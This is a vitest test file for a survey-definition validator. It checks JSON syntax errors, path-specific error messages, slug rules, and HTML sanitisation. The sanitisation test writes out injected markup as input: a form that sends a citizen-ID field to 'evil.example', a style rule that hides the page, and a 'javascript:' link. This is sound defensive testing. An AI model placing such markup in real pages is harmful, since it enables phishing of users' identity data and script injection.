import { describe, expect, test } from 'vitest';

import { checkSurveyJson, surveyUploadSchema } from './surveys';

const valid = {
  pages: [{ name: 'p1', elements: [{ type: 'rating', name: 'q1', title: 'Hài lòng?', rateMin: 1, rateMax: 5 }] }],
};

describe('checkSurveyJson', () => {
  test('a valid definition passes and comes back parsed', () => {
    const r = checkSurveyJson(JSON.stringify(valid));
    expect(r.ok).toBe(true);
  });

  test('an uploaded html question and completedHtml are stored sanitised', () => {
    const withHtml = {
      completedHtml:
        '<p>Cảm ơn</p><form action="https://evil.example"><input name="cccd"></form><style>*{display:none}</style>',
      pages: [
        {
          name: 'p1',
          elements: [
            { type: 'html', name: 'note', html: '<a href="javascript:alert(1)">x</a><ul><li>Một</li></ul>' },
            valid.pages[0]!.elements[0],
          ],
        },
      ],
    };
    const r = checkSurveyJson(JSON.stringify(withHtml));
    expect(r.ok).toBe(true);
    if (r.ok) {
      expect(r.json).toMatchObject({
        completedHtml: '<p>Cảm ơn</p>',
        pages: [{ elements: [{ html: '<a>x</a><ul><li>Một</li></ul>' }, { name: 'q1' }] }],
      });
    }
  });

  test('a JSON syntax error names the line and column', () => {
    const r = checkSurveyJson('{\n  "pages": [\n    oops\n  ]\n}');
    expect(r.ok).toBe(false);
    if (!r.ok)
      expect(r.problems[0]).toMatch(
        /^JSON không hợp lệ \/ invalid JSON \(dòng \/ line 3, cột \/ column 5\): Unexpected token/,
      );
  });

  test('a definition error names its JSON path', () => {
    const broken = { pages: [{ name: 'p1', elements: [{ type: 'rating', name: 'q1', rateMin: 5, rateMax: 1 }] }] };
    const r = checkSurveyJson(JSON.stringify(broken));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problems).toContainEqual(expect.stringMatching(/^pages\[0\]\.elements\[0\]\.rateMax: /));
  });

  test('an element without a name is reported at its path', () => {
    const r = checkSurveyJson(JSON.stringify({ pages: [{ name: 'p1', elements: [{ type: 'comment' }] }] }));
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.problems.join('\n')).toMatch(/pages\[0\]\.elements\[0\]/);
  });
});

test('surveyUploadSchema: slug pattern, a definition, the publish box', () => {
  expect(surveyUploadSchema.parse({ slug: 'sipas-2025', definition: '{}', publish: 'on' })).toEqual({
    slug: 'sipas-2025',
    definition: '{}',
    publish: true,
  });
  expect(surveyUploadSchema.parse({ slug: 'quick', definition: '{}' }).publish).toBe(false);
  expect(surveyUploadSchema.safeParse({ slug: 'Quick!', definition: '{}' }).success).toBe(false);
  expect(surveyUploadSchema.safeParse({ slug: 'quick', definition: '  ' }).success).toBe(false);
});
